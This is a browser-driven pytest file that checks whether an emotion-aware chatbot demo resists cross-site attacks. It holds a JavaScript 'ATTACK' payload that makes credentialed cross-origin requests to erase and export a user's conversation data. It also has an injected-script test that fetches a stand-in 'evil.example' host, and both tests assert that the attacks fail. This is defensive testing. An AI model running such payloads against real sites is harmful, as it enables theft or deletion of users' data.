"""Another site's page, open in the browser of somebody who is talking with the demo."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest

from empathic_sdk import EmotionAwareAgent
from tests.demo.browsing import Visitor

pytestmark = pytest.mark.browser

ATTACK = """async ([demo, page, erase, tell]) => {
  const found = {};
  const note = async (name, doing) => {
    try {
      const r = await doing;
      found[name] = `${r.type} ${r.status} ${(await r.text()).slice(0, 80)}`;
    } catch (error) { found[name] = 'failed'; }
  };
  const body = (fn) => JSON.stringify({data: [], fn_index: fn, session_hash: page});
  const all = {credentials: 'include'};
  const json = {'content-type': 'application/json'};
  await note('config', fetch(`${demo}config`, all));
  await note('page', fetch(demo, all));
  await note('erase', fetch(`${demo}gradio_api/queue/join`,
    {...all, method: 'POST', headers: json, body: body(erase)}));
  await note('erase without asking', fetch(`${demo}gradio_api/queue/join`,
    {...all, method: 'POST', mode: 'no-cors', body: body(erase)}));
  await note('export', fetch(`${demo}gradio_api/queue/join`,
    {...all, method: 'POST', mode: 'no-cors', body: body(tell)}));
  await note('stream', fetch(`${demo}gradio_api/queue/data?session_hash=${page}`, all));
  await note('close', fetch(`${demo}gradio_api/heartbeat/${page}`, {...all, mode: 'no-cors'}));
  await note('upload', fetch(`${demo}gradio_api/upload`,
    {...all, method: 'POST', mode: 'no-cors', body: 'x'}));
  found.source = await new Promise((done) => {
    const source = new EventSource(`${demo}gradio_api/queue/data?session_hash=${page}`,
      {withCredentials: true});
    source.onopen = () => done('open');
    source.onerror = () => { source.close(); done('failed'); };
  });
  found.frame = await new Promise((done) => {
    const frame = document.createElement('iframe');
    frame.onload = () => {
      try { done(frame.contentDocument ? 'blank' : 'refused or foreign'); }
      catch { done('foreign'); }
    };
    frame.src = demo;
    document.body.append(frame);
    setTimeout(() => done('nothing'), 4000);
  });
  return found;
}"""


@pytest.fixture(scope="module")
def evil() -> Iterator[int]:
    """Another server of this machine; its pages have other origins than the demo's."""

    class Page(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>Kittens</title><body>Kittens")

        def log_message(self, *_: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Page)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield server.server_address[1]
    server.shutdown()


@pytest.mark.parametrize("name", ["localhost", "127.0.0.1"])
def test_another_site_cannot_read_or_erase(
    bare: Any, url: str, here: EmotionAwareAgent, evil: int, name: str
) -> None:
    others = set(here.profiles.users())
    ada = Visitor(bare, url)
    ada.say("I failed the exam again.")
    (user,) = set(here.profiles.users()) - others
    (page,) = {m[1] for asked in ada.asked if (m := re.search(r"/heartbeat/(\w+)", asked))}
    config = json.loads(ada.page.evaluate("JSON.stringify(window.gradio_config)"))
    numbers = {d["api_name"]: d["id"] for d in config["dependencies"]}
    other = ada.context.new_page()  # in the same browser, with the same cookies
    frames: list[str] = []
    other.on(
        "response", lambda r: frames.append(f"{r.status} {r.frame.url}") if r.url == url else None
    )
    other.goto(f"http://{name}:{evil}/")
    found = other.evaluate(ATTACK, [url, page, numbers["forget"], numbers["know"]])
    read = {k: v for k, v in found.items() if v not in ("failed", "opaque 0 ")}
    assert set(read) <= {"frame"}, read
    assert "foreign" in found["frame"] or found["frame"] == "nothing"
    assert not any(frame.startswith("200") for frame in frames)
    assert len(here.profiles.export(user)["turns"]) == 1
    ada.say("And again.")
    assert len(here.profiles.export(user)["turns"]) == 2
    ada.leave()


def test_the_page_keeps_to_its_own_policy(bare: Any, url: str) -> None:
    visitor = Visitor(bare, url)
    visitor.say("I failed the exam again.")
    visitor.page.locator("#es-ask").click()
    visitor.page.locator("#es-about a").wait_for()
    for tab in ("Tutoring", "Look inside", "Counselling"):
        visitor.tab(tab)
        visitor.page.wait_for_timeout(300)
    assert visitor.complaints == []
    # What somebody managed to put into the page would not run, and could tell nobody.
    ran = visitor.page.evaluate(
        """async () => {
          document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.ran = 1">');
          const script = document.createElement('script');
          script.textContent = 'window.ran = 2';
          document.body.append(script);
          const told = await fetch('https://evil.example/').then(() => 'told', () => 'refused');
          await new Promise((done) => setTimeout(done, 300));
          return [window.ran === undefined, told];
        }"""
    )
    assert ran == [True, "refused"]
    assert any("Content Security Policy" in complaint for complaint in visitor.complaints)
    visitor.leave()
